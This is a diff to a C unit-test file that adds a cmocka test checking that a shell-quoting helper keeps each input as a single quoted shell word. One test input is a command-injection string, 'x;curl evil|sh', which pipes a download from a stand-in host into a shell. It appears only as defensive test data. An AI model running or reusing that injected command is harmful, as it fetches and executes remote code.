@@ -108,6 +108,25 @@ static void escaping_takes_no_more_than_asked(void **state)
 	assert_int_equal(strbuf_add_escaped(&sb, "abc", 3, 0), 3);
 }
 
+static void is_word(const char *text, const char *want)
+{
+	char *word = strbuf_shell_word(text);
+
+	assert_string_equal(word, want);
+	free(word);
+}
+
+static void a_word_of_a_shell_stays_one(void **state)
+{
+	(void)state;
+	is_word("/ws/a-b_c.sh", "/ws/a-b_c.sh");
+	is_word("", "''");
+	is_word("a b", "'a b'");
+	is_word("~", "'~'");
+	is_word("x;curl evil|sh", "'x;curl evil|sh'");
+	is_word("it's $(x)", "'it'\\''s $(x)'");
+}
+
 int main(void)
 {
 	const struct CMUnitTest tests[] = {
@@ -117,6 +136,7 @@ int main(void)
 		cmocka_unit_test(steal_leaves_it_empty),
 		cmocka_unit_test(escapes_every_byte_to_ascii_on_one_line),
 		cmocka_unit_test(escapes_what_ci_systems_obey),
+		cmocka_unit_test(a_word_of_a_shell_stays_one),
 		cmocka_unit_test(escaping_takes_no_more_than_asked),
 	};
 
